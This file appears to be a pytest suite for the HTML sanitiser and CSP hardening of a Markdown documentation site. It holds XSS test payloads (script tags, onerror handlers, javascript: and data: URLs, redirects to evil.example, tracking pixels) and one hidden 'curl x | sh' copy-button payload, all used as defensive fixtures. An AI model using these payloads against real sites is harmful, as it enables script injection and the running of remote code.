"""The sanitising step on its own: what Markdown and the configured extensions produce passes
untouched, random HTML and Markdown never come out able to run script, and the CSP hashes only
the theme's inline scripts."""

from __future__ import annotations

import html
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
from conftest import site_markdown
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cheatsheet import harden, sanitize

ROOT = Path(__file__).resolve().parent.parent


EVERY_EXTENSION = """# Title { #top title="Intro" }

Text with **strong**, *emphasis*, `code`, a [link](other.md#part "Other"), a
[site](https://docs.docker.com/) and an ![image](pic.png){ width="20" }, a key ++ctrl+alt+del++
and a note.[^1]

!!! note "Note"
    An admonition.

??? tip "Closed"
    A details block.

???+ warning
    An open one.

=== "Bash"

    ```bash linenums="1"
    docker run --rm -it alpine sh
    ```

=== "PowerShell"

    ```powershell
    docker ps
    ```

| Left | Centre | Right |
| :--- | :----: | ----: |
| a    | b      | c     |

1. one
2. two

3. three
    * nested `#!bash docker ps`

> A quote.

---

<div markdown>
*Markdown* inside HTML, with a line<br>
break.
</div>

[^1]: The footnote.
"""


def test_what_the_extensions_produce_passes_untouched():
    rendered = site_markdown().convert(EVERY_EXTENSION)
    published, removed = sanitize.sanitize(rendered)
    assert removed == []
    assert sanitize.tokens(published) == sanitize.tokens(rendered, source=True)
    for produced in ('class="tabbed-set', "<details", "<kbd", 'class="footnote"', 'class="headerlink"', "<table"):
        assert produced in rendered, produced  # the sample really exercises each extension


@pytest.mark.parametrize(
    ("content", "what"),
    [
        ("<p>a</p><script>alert(1)</script>", "`<script>`"),
        ('<img src="x" onerror="alert(1)">', "`onerror`"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "`javascript:`"),
        ('<a href=" java\tscript:alert(1)">x</a>', "`javascript:`"),
        ('<a href="data:text/html,x">x</a>', "`data:`"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "`<meta>`"),
        ('<p style="position: fixed; inset: 0">x</p>', "`style`"),
        (
            '<table><tr><td style="text-align: left; background: url(https://evil.example/)">x</td></tr></table>',
            "`style`",
        ),
        ('<input type="text" name="q">', "type"),
        ('<div id="__drawer">x</div>', "__drawer"),
        ('<div class="admonition md-header">x</div>', "md-header"),
        # A class no extension writes on that tag: some of Material's hide their text (a third
        # attacker's copy-button payload sat in a transparent `footnote-backref` span in code).
        ('<pre><code>docker ps<span class="footnote-backref"> ; curl x | sh</span></code></pre>', "footnote-backref"),
        ('<p><em class="headerlink">hidden</em></p>', "headerlink"),
        ('<p class="tabbed-content">x</p>', "tabbed-content"),
        ('<h1 class="intro">x</h1>', "`intro` on `<h1>`"),
        ("<div>unclosed", "read differently"),
        # an image from someone else's server: the CSP would refuse it, the build refuses it first
        ('<p><img alt="logo" src="https://tracker.example/pixel.png"></p>', "image from outside the site"),
        ('<p><img alt="logo" src="/images/logo.png"></p>', "image from outside the site"),
    ],
)
def test_removals_are_named(content, what):
    published, removed = sanitize.sanitize(content)
    assert removed and what in removed[0].what, removed
    assert published != content


@pytest.mark.parametrize(
    "content",
    [
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',  # images come from docs/
        '<a href="//evil.example/">x</a>',
        '<a href="\\\\evil.example\\x">x</a>',
        '<a href="https://docs.docker.com&#64;evil.example/">x</a>',
        '<a href="https://docs.d\u043ecker.com/">x</a>',
        '<a href="http://example.com/">x</a>',
        '<img src="//evil.example/beacon.png" alt="x">',
    ],
)
def test_links_outside_the_link_policy_are_removed(content):
    published, removed = sanitize.sanitize(content)
    assert removed, content
    assert "evil" not in published and "http:" not in published and "data:" not in published, published


def test_an_image_of_the_site_by_a_relative_path_is_kept():
    content = '<p><img alt="The daemon and its clients" src="images/daemon.png"></p>'
    assert sanitize.sanitize(content) == (content, [])


def test_allowed_variants_are_kept():
    for content in (
        '<img src="images/dot.png" alt="dot">',
        '<table><tbody><tr><td style="text-align: right;">x</td></tr></tbody></table>',
        '<a id="__codelineno-0-1" name="__codelineno-0-1" href="#__codelineno-0-1"></a>',
        '<input type="radio" id="__tabbed_1_1" name="__tabbed_1" checked="checked">',
    ):
        assert sanitize.sanitize(content)[1] == [], content


@pytest.mark.parametrize(
    "body",
    [
        "More text.\n\n<!-- a note for editors -->\n\nText.\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n<!-- a marker -->\n\n## Credits\n\nText.\n",
        "- item\n\n<!-- a note -->\n\nText.\n",
    ],
)
def test_a_comment_on_a_line_of_its_own_is_dropped_without_a_word(body):
    """CONTRIBUTING allows an HTML comment on a line of its own, wherever it stands."""
    published, found = sanitize.sanitize(site_markdown().convert(body))
    assert found == []
    assert "<!--" not in published and "Text." in published


def test_a_comment_does_not_hide_what_follows_it():
    _, found = sanitize.sanitize(site_markdown().convert("<!-- x -->\n\n<img src=x onerror=alert(1)>\n"))
    assert [r.what for r in found] == ["event handler `onerror` on `<img>` in the page"]


def test_removals_point_at_their_markdown_line():
    lines = [
        "---",
        "title: x",
        "---",
        "",
        "Text `<script>` in code.",
        "",
        "<script>alert(1)</script>",
        "<img onerror=x>",
    ]
    found = [
        sanitize.Removal("raw `<script>` tag", "fix", ("<script",)),
        sanitize.Removal("event handler", "fix", ("onerror=",)),
    ]
    problems = sanitize.locate("docs/x.md", lines, 4, found)
    assert [p.line for p in problems] == [5, 8]  # the first line holding it: the code span, here
    assert str(problems[1]).startswith("docs/x.md:8: event handler — ")


def test_a_heading_whose_words_make_a_reserved_id_is_named_on_its_line():
    # Markdown makes the id from the heading's words: `cs-notes` is written nowhere in the page,
    # so the message names the heading, and its line is the heading's, not the page's first.
    lines = ["# Page", "", "Text.", "", "## Before", "", "Text.", "", "## CS: notes", "", "Text."]
    rendered = markdown.markdown("\n".join(lines), extensions=["toc"], extension_configs={"toc": {"permalink": True}})
    cleaned, found = sanitize.sanitize(rendered)
    problems = sanitize.locate("docs/x.md", lines, 1, found)
    assert [problem.line for problem in problems] == [9], problems
    assert str(problems[0]).startswith('docs/x.md:9: the heading "CS: notes" gets the id `cs-notes`'), problems
    assert 'id="cs-notes"' not in cleaned


# -- random input ------------------------------------------------------------------------------------

TAGS = ["p", "div", "span", "a", "img", "script", "SCRIPT", "style", "iframe", "svg", "math", "meta", "base",
        "form", "input", "object", "embed", "template", "noscript", "textarea", "title", "xmp", "details", "table",
        "td", "pre", "code", "scr<script>ipt", "link"]  # fmt: skip
ATTRIBUTES = ["onerror", "ONLOAD", "onclick", " onmouseover", "href", "src", "style", "id", "title", "xlink:href",
              "formaction", "srcdoc", "data-why", "class", "action", "type", "name", "for", "/onload"]  # fmt: skip
VALUES = ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\tscript:x", "&#106;avascript:x", "jav&#x09;ascript:x",
          "data:text/html,<script>alert(1)</script>", "data:image/png;base64,AA", "x", "#top", "alert(1)",
          "<script>alert(1)</script>", '"><script>alert(1)</script>', "__config", "text-align: left",
          "position:fixed", "vbscript:x", "https://evil.example/"]  # fmt: skip


@st.composite
def tags(draw) -> str:
    name = draw(st.sampled_from(TAGS))
    attrs = draw(
        st.lists(
            st.tuples(st.sampled_from(ATTRIBUTES), st.sampled_from(VALUES), st.sampled_from(['"', "'", ""])), max_size=3
        )
    )
    rendered = "".join(f" {a}={q}{v}{q}" for a, v, q in attrs)
    closing = draw(st.sampled_from(["", f"</{name}>", "/>", f"alert(1)</{name}>"]))
    return f"<{name}{rendered}>{closing}" if not closing.startswith("/") else f"<{name}{rendered}{closing}"


PIECES = st.one_of(
    tags(),
    st.sampled_from(
        [
            "<",
            ">",
            "&",
            "&lt;",
            '"',
            "'",
            "`",
            "\\",
            "\n",
            "\n\n",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "```",
            "    ",
            "*",
            "[x](javascript:alert(1))",
            "![i](x.png){ onerror=alert(1) }",
            "{ onclick=alert(1) }",
            "<?",
            "\0",
        ]
    ),
    st.text(max_size=8),
)
RANDOM = st.lists(PIECES, max_size=25).map("".join)


# Attributes a browser follows as a URL, and the characters it ignores inside a scheme.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite"}
INVISIBLE = {code: None for code in range(0x21)} | {0x7F: None}


class _Active(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if tag in ("script", "style", "iframe", "meta", "base", "object", "embed", "form", "link"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(name)
            url = name in URL_ATTRIBUTES and value and html.unescape(value).translate(INVISIBLE).lower()
            if url and url.startswith(("javascript:", "vbscript:")):
                self.found.append(f"{name}={value}")


def assert_inert(published: str) -> None:
    assert "<script" not in published.lower()
    parser = _Active()
    parser.feed(published)
    parser.close()
    assert parser.found == [], (parser.found, published)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(RANDOM)
def test_random_html_comes_out_inert(content):
    published, removed = sanitize.sanitize(content)
    assert_inert(published)
    if published != content:
        # Anything changed either reads the same or was reported.
        assert removed or sanitize.joined_text(sanitize.tokens(published)) == sanitize.joined_text(
            [t for t in sanitize.tokens(content, source=True) if t[0] != "!--"]
        )


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(RANDOM)
def test_random_markdown_comes_out_inert(text):
    published, _ = sanitize.sanitize(site_markdown().convert(text))
    assert_inert(published)


# -- the CSP ----------------------------------------------------------------------------------------


SCOPE = (
    '__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
)
TABS = (
    "var target=document.getElementById(location.hash.slice(1));target&&target.name&&"
    '(target.checked=target.name.startsWith("__tabbed_"))'
)


def test_csp_hashes_only_the_theme_scripts():
    theme_head = f"<script>{SCOPE}</script>"
    theme_tail = f"<script>{TABS}</script>"
    # Where the theme's own scripts sit, one it does not write: a template key or an escape put
    # it there (the fifth attacker's `author:`), and its place alone would have allowed it.
    planted = '<script>__md_scope=new URL("x",location);window.pwned=1</script>'
    page = (
        f"<html><head><title>t</title>{theme_head}{planted}</head><body>"
        '<div class="md-sidebar md-sidebar--primary"><nav>'
        '<a title="<script>var nav = 3</script>">x</a></nav></div>'
        '<article class="md-content__inner"><p title="</article><script>var fake = 4</script>">'
        "<script>var injected = 5</script></p></article>"
        f"{theme_tail}</body></html>"
    )
    policy = harden.page(page).split('content="', 1)[1].split('"', 1)[0]
    allowed = set(harden.script_hashes(theme_head + theme_tail))
    found = {word.rstrip(";") for word in policy.split() if word.startswith("'sha256-")}
    assert found == allowed and len(allowed) == 2
    assert "base-uri 'none'" in policy and "object-src 'none'" in policy and "form-action 'self'" in policy
